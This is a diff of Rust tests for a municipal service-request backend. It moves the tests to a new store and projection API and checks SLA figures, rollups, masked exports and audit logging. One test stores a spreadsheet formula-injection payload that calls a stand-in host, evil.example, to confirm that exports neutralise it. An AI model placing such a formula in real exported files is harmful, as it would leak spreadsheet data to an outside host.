@@ -24,13 +24,14 @@ fn fixture() -> Fixture {
     let data = dir.path().join("data");
     setup::init(InitArgs {
         data: data.clone(),
+        database: None,
         admin_user: "admin".parse().unwrap(),
         admin_password: ADMIN_PASSWORD.into(),
         hostnames: vec![],
     })
     .unwrap();
     setup::add_user(
-        &data,
+        &setup::Place::local(&data),
         NewUser {
             username: "pengawas".parse().unwrap(),
             password: "rahasia-pengawas".into(),
@@ -42,8 +43,9 @@ fn fixture() -> Fixture {
     .unwrap();
     let config = Config { data: data.clone(), ..Config::default() };
     let db = Db::open(&config.db_path()).unwrap();
-    let seal = db.write(|tx| crate::seal::SealKey::load_or_create(tx)).unwrap();
-    let state = AppState::new(db, config, seal);
+    let seal = db.write(crate::seal::SealKey::load_or_create).unwrap();
+    let writer = crate::central::Writer::new(&seal);
+    let state = AppState::new(db, config, seal, writer);
     Fixture { _dir: dir, app: router(state.clone()), state }
 }
 
@@ -75,7 +77,7 @@ fn web_session(f: &Fixture) -> String {
 fn web_session_for(f: &Fixture, username: &str) -> String {
     let (token, hash) = crate::auth::new_token();
     let user: crate::auth::Username = username.parse().unwrap();
-    f.state.db.write(|tx| accounts::create_session(tx, &hash, &user, i64::MAX / 2, 0)).unwrap();
+    f.state.db.write(|tx| crate::store::accounts::create_session(tx, &hash, &user, i64::MAX / 2, 0)).unwrap();
     token
 }
 
@@ -420,8 +422,9 @@ async fn a_kiosk_syncing_too_often_is_rate_limited() {
     // with the default (4 per second) a loaded machine refilled the burst
     // before it was spent.
     let config = Config { kiosk_syncs_per_minute: 4, ..(*f.state.config).clone() };
-    let seal = f.state.db.write(|tx| crate::seal::SealKey::load_or_create(tx)).unwrap();
-    f.state = AppState::new(f.state.db.clone(), config, seal);
+    let seal = f.state.db.write(crate::seal::SealKey::load_or_create).unwrap();
+    let writer = crate::central::Writer::new(&seal);
+    f.state = AppState::new(f.state.db.clone(), config, seal, writer);
     f.app = router(f.state.clone());
     let admin = admin_token(&f.app).await;
     let (_, body) = call(
@@ -476,7 +479,7 @@ async fn agencies_see_only_their_own_requests_and_parameters_are_checked() {
     let f = fixture();
     for (name, agency) in [("dukcapil", "DISDUKCAPIL"), ("dinsos", "DINSOS")] {
         setup::add_user(
-            &f.state.config.data,
+            &setup::Place::local(&f.state.config.data),
             NewUser {
                 username: name.parse().unwrap(),
                 password: format!("rahasia-{name}-1"),
@@ -610,7 +613,9 @@ async fn ikm_figures_of_the_api_the_page_and_the_csv_equal_an_independent_comput
     let mut expected: BTreeMap<String, ([u64; 9], u64, u64)> = BTreeMap::new();
     f.state
         .db
-        .write(|tx| -> Result<(), crate::store::StoreError> {
+        .sqlite()
+        .unwrap()
+        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
             let mut n = 0u64;
             for g in &groups {
                 let kel: loket_shared::KelurahanCode = g.kelurahan.parse().unwrap();
@@ -664,6 +669,7 @@ async fn ikm_figures_of_the_api_the_page_and_the_csv_equal_an_independent_comput
             Ok(())
         })
         .unwrap();
+    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
 
     // The grade of every designed edge, by the independent computation.
     let grades: Vec<&str> = groups
@@ -804,7 +810,7 @@ fn walked_working_ms_except(start: i64, end: i64, offset: time::UtcOffset, holid
 async fn holidays_change_working_time_and_are_checked() {
     let f = fixture();
     let wib = time::UtcOffset::from_hms(7, 0, 0).unwrap();
-    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
     let id = push_request_n(&f.state, "1271010101900003", 1);
     let admin = admin_token(&f.app).await;
     let events = format!("/api/admin/requests/{id}/events");
@@ -815,7 +821,9 @@ async fn holidays_change_working_time_and_are_checked() {
     let projected = || {
         f.state
             .db
-            .read(|c| {
+            .sqlite()
+            .unwrap()
+            .raw_read(|c| {
                 Ok::<(i64, i64, i64), crate::store::StoreError>(c.query_row(
                     "SELECT created_at_ms, finished_at_ms, working_ms FROM requests WHERE doc_id = ?1",
                     [&id],
@@ -926,9 +934,14 @@ fn finish_times_are_bounded_by_the_servers_receipts() {
     ];
     let derived = workflow::fold(&events).unwrap();
     // Truthful clocks: two calendar days from Thursday = Thursday + Friday... + Saturday: 1 working day + rest of Fri.
-    let (finished, working) =
-        crate::store::docs::finish_times(&view, &derived, (None, None), wib, &loket_shared::sla::Holidays::none())
-            .unwrap();
+    let (finished, working) = crate::store::projection::finish_times(
+        &view,
+        &derived,
+        (None, None),
+        wib,
+        &loket_shared::sla::Holidays::none(),
+    )
+    .unwrap();
     assert_eq!(finished, created + 2 * day);
     assert_eq!(working, walked_working_ms(created, created + 2 * day, wib));
     // The finishing kiosk's clock ran five days fast: the server received
@@ -936,7 +949,7 @@ fn finish_times_are_bounded_by_the_servers_receipts() {
     let fast =
         vec![events[0].clone(), events[1].clone(), ev("e3", created + 7 * day, Status::Completed, vec!["e2".into()])];
     let derived = workflow::fold(&fast).unwrap();
-    let (finished, _) = crate::store::docs::finish_times(
+    let (finished, _) = crate::store::projection::finish_times(
         &view,
         &derived,
         (Some(created + 60_000), Some(created + day)),
@@ -949,15 +962,26 @@ fn finish_times_are_bounded_by_the_servers_receipts() {
     let slow =
         vec![events[0].clone(), events[1].clone(), ev("e3", created - 3 * day, Status::Completed, vec!["e2".into()])];
     let derived = workflow::fold(&slow).unwrap();
-    let (finished, working) =
-        crate::store::docs::finish_times(&view, &derived, (None, None), wib, &loket_shared::sla::Holidays::none())
-            .unwrap();
+    let (finished, working) = crate::store::projection::finish_times(
+        &view,
+        &derived,
+        (None, None),
+        wib,
+        &loket_shared::sla::Holidays::none(),
+    )
+    .unwrap();
     assert_eq!((finished, working), (created, 0));
     // Open requests have no finish.
     let derived = workflow::fold(&events[..2]).unwrap();
     assert!(
-        crate::store::docs::finish_times(&view, &derived, (None, None), wib, &loket_shared::sla::Holidays::none())
-            .is_none()
+        crate::store::projection::finish_times(
+            &view,
+            &derived,
+            (None, None),
+            wib,
+            &loket_shared::sla::Holidays::none()
+        )
+        .is_none()
     );
 }
 
@@ -967,7 +991,7 @@ async fn overview_sla_figures_equal_an_independent_computation() {
     let wib = time::UtcOffset::from_hms(7, 0, 0).unwrap();
     let nov = time::macros::datetime!(2026-11-01 00:00).assume_offset(wib);
     let start_ms = (nov.unix_timestamp_nanos() / 1_000_000) as i64;
-    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
     let kelurahan = ["12.71.01.1001", "12.71.01.1002", "12.71.02.1001"];
     // SKD: 1 working day; SKU: 2; WARIS: 5 (the built-in catalog).
     let services = [("SKD", 1i64), ("SKU", 2), ("WARIS", 5)];
@@ -1010,7 +1034,9 @@ async fn overview_sla_figures_equal_an_independent_computation() {
     }
     f.state
         .db
-        .write(|tx| -> Result<(), crate::store::StoreError> {
+        .sqlite()
+        .unwrap()
+        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
             for (i, kel, service, created, finished, working) in &rows {
                 let k: loket_shared::KelurahanCode = kel.parse().unwrap();
                 tx.execute(
@@ -1026,6 +1052,7 @@ async fn overview_sla_figures_equal_an_independent_computation() {
             Ok(())
         })
         .unwrap();
+    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
     let web_token = web_session(&f);
     let req = Request::builder()
         .uri("/admin/ringkasan?periode=2026-11&per=kelurahan")
@@ -1065,7 +1092,7 @@ async fn overview_sla_figures_equal_an_independent_computation() {
 #[test]
 fn staff_work_rows_follow_the_projections_in_any_order() {
     let f = fixture();
-    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
     let nov = 1_793_466_000_000i64; // 2026-11-01 00:00 WIB
     let (clerk, other) = ("198503122010011002", "199001012015011001");
     // (doc, nip, last step, finished, working ms, within SLA, U6, U7)
@@ -1073,7 +1100,9 @@ fn staff_work_rows_follow_the_projections_in_any_order() {
     let rows = || -> Vec<Row> {
         f.state
             .db
-            .read(|c| {
+            .sqlite()
+            .unwrap()
+            .raw_read(|c| {
                 let mut stmt = c.prepare(
                     "SELECT doc_id, nip, last_at_ms, finished, working_ms, within_sla, u6, u7
                      FROM request_staff ORDER BY doc_id, nip",
@@ -1086,7 +1115,13 @@ fn staff_work_rows_follow_the_projections_in_any_order() {
             .unwrap()
     };
     let sql = |q: &str, p: &[&dyn rusqlite::ToSql]| {
-        f.state.db.write(|tx| -> Result<usize, crate::store::StoreError> { Ok(tx.execute(q, p)?) }).unwrap();
+        f.state
+            .db
+            .sqlite()
+            .unwrap()
+            .raw_write(|tx| -> Result<usize, crate::store::StoreError> { Ok(tx.execute(q, p)?) })
+            .unwrap();
+        f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
     };
     let event = "INSERT INTO events (doc_id, event_id, kelurahan, hlc, node, at_ms, by_who, kind, from_status,
                                      to_status, note, agency)
@@ -1140,23 +1175,29 @@ fn staff_work_rows_follow_the_projections_in_any_order() {
     let kept = rows();
     f.state
         .db
-        .write(|tx| -> Result<(), crate::store::StoreError> {
-            tx.execute_batch("DROP TABLE request_staff")?;
-            crate::store::docs::migrate(tx)?;
+        .sqlite()
+        .unwrap()
+        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
+            // A store from before `request_staff`: the first migration
+            // fills it from the projections.
+            tx.execute_batch("DROP TABLE request_staff; UPDATE meta SET value = '0' WHERE key = 'schema_version'")?;
             Ok(())
         })
         .unwrap();
+    crate::store::migrate::run(&f.state.db).unwrap();
     assert_eq!(rows(), kept);
 }
 
 #[test]
 fn rollups_follow_updates_and_count_only_the_first_rating() {
     let f = fixture();
-    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
     let monthly = |month: i64| -> (i64, i64, i64, i64, i64) {
         f.state
             .db
-            .read(|c| {
+            .sqlite()
+            .unwrap()
+            .raw_read(|c| {
                 Ok::<_, crate::store::StoreError>(c.query_row(
                     "SELECT coalesce(sum(filed), 0), coalesce(sum(finished), 0), coalesce(sum(within_sla), 0),
                             coalesce(sum(respondents), 0), coalesce(sum(u1), 0)
@@ -1171,7 +1212,9 @@ fn rollups_follow_updates_and_count_only_the_first_rating() {
     let dec = 1_796_058_000_000i64; // 2026-12-01 00:00 WIB
     f.state
         .db
-        .write(|tx| -> Result<(), crate::store::StoreError> {
+        .sqlite()
+        .unwrap()
+        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
             tx.execute(
                 "INSERT INTO requests (doc_id, ticket, kelurahan, kecamatan, kiosk, service, status, conflict, agency,
                                        rated, created_at_ms, updated_at_ms, finished_at_ms, working_ms)
@@ -1182,35 +1225,44 @@ fn rollups_follow_updates_and_count_only_the_first_rating() {
             Ok(())
         })
         .unwrap();
+    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
     assert_eq!(monthly(202611), (1, 0, 0, 0, 0), "filed in November, open");
     // It finishes in November within its one working day...
     f.state
         .db
-        .write(|tx| -> Result<usize, crate::store::StoreError> {
+        .sqlite()
+        .unwrap()
+        .raw_write(|tx| -> Result<usize, crate::store::StoreError> {
             Ok(tx.execute(
                 "UPDATE requests SET finished_at_ms = ?1, working_ms = 3600000 WHERE doc_id = 'd1'",
                 [nov + 2 * 86_400_000],
             )?)
         })
         .unwrap();
+    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
     assert_eq!(monthly(202611), (1, 1, 1, 0, 0));
     // ...then a later merge moves the finish to December, beyond the SLA.
     f.state
         .db
-        .write(|tx| -> Result<usize, crate::store::StoreError> {
+        .sqlite()
+        .unwrap()
+        .raw_write(|tx| -> Result<usize, crate::store::StoreError> {
             Ok(tx.execute(
                 "UPDATE requests SET finished_at_ms = ?1, working_ms = 400000000 WHERE doc_id = 'd1'",
                 [dec + 3_600_000],
             )?)
         })
         .unwrap();
+    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
     assert_eq!(monthly(202611), (1, 0, 0, 0, 0));
     assert_eq!(monthly(202612), (0, 1, 0, 0, 0));
     // Two concurrent ratings: the one with the lower id counts, whichever arrives first.
     let rate = |id: &str, u1: i64| {
         f.state
             .db
-            .write(|tx| -> Result<usize, crate::store::StoreError> {
+            .sqlite()
+            .unwrap()
+            .raw_write(|tx| -> Result<usize, crate::store::StoreError> {
                 Ok(tx.execute(
                     "INSERT INTO ratings (doc_id, rating_id, kelurahan, at_ms, u1, u2, u3, u4, u5, u6, u7, u8, u9)
                      VALUES ('d1', ?1, '12.71.01.1001', ?2, ?3, 3, 3, 3, 3, 3, 3, 3, 3)",
@@ -1218,6 +1270,7 @@ fn rollups_follow_updates_and_count_only_the_first_rating() {
                 )?)
             })
             .unwrap();
+        f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
     };
     rate("r-b", 4);
     assert_eq!(monthly(202612), (0, 1, 0, 1, 4));
@@ -1230,7 +1283,7 @@ fn rollups_follow_updates_and_count_only_the_first_rating() {
 #[tokio::test]
 async fn time_lost_finds_the_longest_step_and_ignores_clocks_days_off() {
     let f = fixture();
-    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
     let h = 3_600_000i64;
     let mon = 1_795_366_800_000i64 + 9 * h; // Monday 2026-11-23 09:00 WIB
     // (doc, created, finished, events: (at, to, agency))
@@ -1267,7 +1320,9 @@ async fn time_lost_finds_the_longest_step_and_ignores_clocks_days_off() {
     ];
     f.state
         .db
-        .write(|tx| -> Result<(), crate::store::StoreError> {
+        .sqlite()
+        .unwrap()
+        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
             for (i, (doc, created, finished, events)) in requests.iter().enumerate() {
                 let working = loket_shared::sla::working_ms_between(
                     *created,
@@ -1293,14 +1348,15 @@ async fn time_lost_finds_the_longest_step_and_ignores_clocks_days_off() {
             Ok(())
         })
         .unwrap();
+    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
     // Written straight into the projections, as a tool would: the step
     // times are measured again from them.
-    assert_eq!(f.state.db.write(|tx| crate::store::docs::rebuild_request_steps(tx)).unwrap(), 3);
+    assert_eq!(f.state.db.write(|tx| crate::store::projection::rebuild_request_steps(tx)).unwrap(), 3);
     // The admin reads the city's step histograms; a supervisor of the
     // kelurahan gets the exact figures from the journeys themselves. Both
     // must say the same.
     setup::add_user(
-        &f.state.config.data,
+        &setup::Place::local(&f.state.config.data),
         NewUser {
             username: "lurah-pb".parse().unwrap(),
             password: "rahasia-lurah-1".into(),
@@ -1364,7 +1420,7 @@ async fn time_lost_page_says(f: &Fixture, user: &str) {
 #[tokio::test]
 async fn staff_competency_ranks_training_needs_and_compares_before_and_after() {
     let f = fixture();
-    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
     let token = admin_token(&f.app).await;
     let (weak, strong) = ("198503122010011002", "199001012015011001");
     for (nip, name) in [(weak, "Budi Petugas"), (strong, "Sari Petugas")] {
@@ -1389,7 +1445,9 @@ async fn staff_competency_ranks_training_needs_and_compares_before_and_after() {
     }
     f.state
         .db
-        .write(|tx| -> Result<(), crate::store::StoreError> {
+        .sqlite()
+        .unwrap()
+        .raw_write(|tx| -> Result<(), crate::store::StoreError> {
             for (n, (nip, offset, u6, u7)) in handled.iter().enumerate() {
                 let at = training_day + offset * day + 3_600_000;
                 let id = format!("doc-{n:03}");
@@ -1420,6 +1478,7 @@ async fn staff_competency_ranks_training_needs_and_compares_before_and_after() {
             Ok(())
         })
         .unwrap();
+    f.state.db.write(crate::store::projection::rebuild_rollups).unwrap();
     let web_token = web_session(&f);
     let page = |cookie: String| {
         let app = f.app.clone();
@@ -1448,7 +1507,7 @@ async fn staff_competency_ranks_training_needs_and_compares_before_and_after() {
     assert!(needs.contains("3.00"), "U6 shown: {needs}");
     let admin =
         crate::auth::User { username: "admin".parse().unwrap(), role: Role::Admin, agency: None, kelurahan: None };
-    let work = crate::central::staff_work(&f.state, &admin, 0, i64::MAX / 2, None).await.unwrap();
+    let work = crate::ops::reports::staff_work(&f.state.db, &admin, 0, i64::MAX / 2, None).await.unwrap();
     let mut staff = vec![strong, weak];
     staff.sort_unstable();
     assert_eq!(work.keys().map(String::as_str).collect::<Vec<_>>(), staff, "citizens are not staff");
@@ -1537,7 +1596,7 @@ fn xlsx_rows(bytes: Vec<u8>) -> Vec<Vec<String>> {
 #[tokio::test]
 async fn exports_as_csv_and_xlsx_agree_and_mask_personal_data() {
     let f = fixture();
-    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
     let nik = "1271010101900003";
     push_request(&f.state, nik);
     // Requests: the NIK and the name only masked, in both formats.
@@ -1585,7 +1644,7 @@ async fn exports_as_csv_and_xlsx_agree_and_mask_personal_data() {
 #[tokio::test]
 async fn a_full_export_needs_a_reason_and_is_audited_per_request() {
     let f = fixture();
-    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
     let niks = ["1271010101900003", "1271014101900004"];
     for (n, nik) in (1..).zip(niks) {
         push_request_n(&f.state, nik, n);
@@ -1601,7 +1660,9 @@ async fn a_full_export_needs_a_reason_and_is_audited_per_request() {
     let audited = || {
         f.state
             .db
-            .read(|c| {
+            .sqlite()
+            .unwrap()
+            .raw_read(|c| {
                 Ok::<i64, crate::store::StoreError>(c.query_row(
                     "SELECT count(*) FROM audit_log WHERE action = 'export_personal'",
                     [],
@@ -1640,22 +1701,26 @@ async fn a_full_export_needs_a_reason_and_is_audited_per_request() {
 #[tokio::test]
 async fn reproject_fills_columns_added_by_an_upgrade() {
     let f = fixture();
-    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
     let nik = "1271010101900003";
     let id = push_request(&f.state, nik);
     // As a store from before the upgrade: the new columns are empty.
     f.state
         .db
-        .write(|tx| -> Result<usize, crate::store::StoreError> {
+        .sqlite()
+        .unwrap()
+        .raw_write(|tx| -> Result<usize, crate::store::StoreError> {
             Ok(tx.execute("UPDATE requests SET nik_masked = NULL, name_masked = NULL WHERE doc_id = ?1", [&id])?)
         })
         .unwrap();
-    let (done, skipped) = crate::store::docs::reproject_requests(&f.state.db, 1000, |_| {}).unwrap();
+    let (done, skipped) = crate::store::projection::reproject_requests(&f.state.db, 1000, |_| {}).unwrap();
     assert_eq!((done, skipped), (1, 0));
     let masked: (Option<String>, Option<String>) = f
         .state
         .db
-        .read(|c| {
+        .sqlite()
+        .unwrap()
+        .raw_read(|c| {
             Ok::<_, crate::store::StoreError>(c.query_row(
                 "SELECT nik_masked, name_masked FROM requests WHERE doc_id = ?1",
                 [&id],
@@ -1894,14 +1959,16 @@ async fn refusals_name_the_field_never_the_value() {
 #[tokio::test]
 async fn exports_never_hand_a_spreadsheet_a_formula() {
     let f = fixture();
-    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx, &f.state.writer)).unwrap();
     let id = push_request(&f.state, "1271010101900003");
     // A kiosk-supplied agency as it might have been stored by an older
     // server (the agency is a free-text field of a kiosk's event).
     let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"klik")"#;
     f.state
         .db
-        .write(|tx| {
+        .sqlite()
+        .unwrap()
+        .raw_write(|tx| {
             tx.execute("UPDATE requests SET agency = ?1 WHERE doc_id = ?2", rusqlite::params![formula, id])
                 .map_err(crate::store::StoreError::from)
         })
@@ -1966,7 +2033,9 @@ async fn the_users_page_disables_an_account() {
     let subject: String = f
         .state
         .db
-        .read(|c| {
+        .sqlite()
+        .unwrap()
+        .raw_read(|c| {
             c.query_row("SELECT subject FROM audit_log WHERE action = 'disable_user'", [], |r| r.get(0))
                 .map_err(crate::store::StoreError::from)
         })
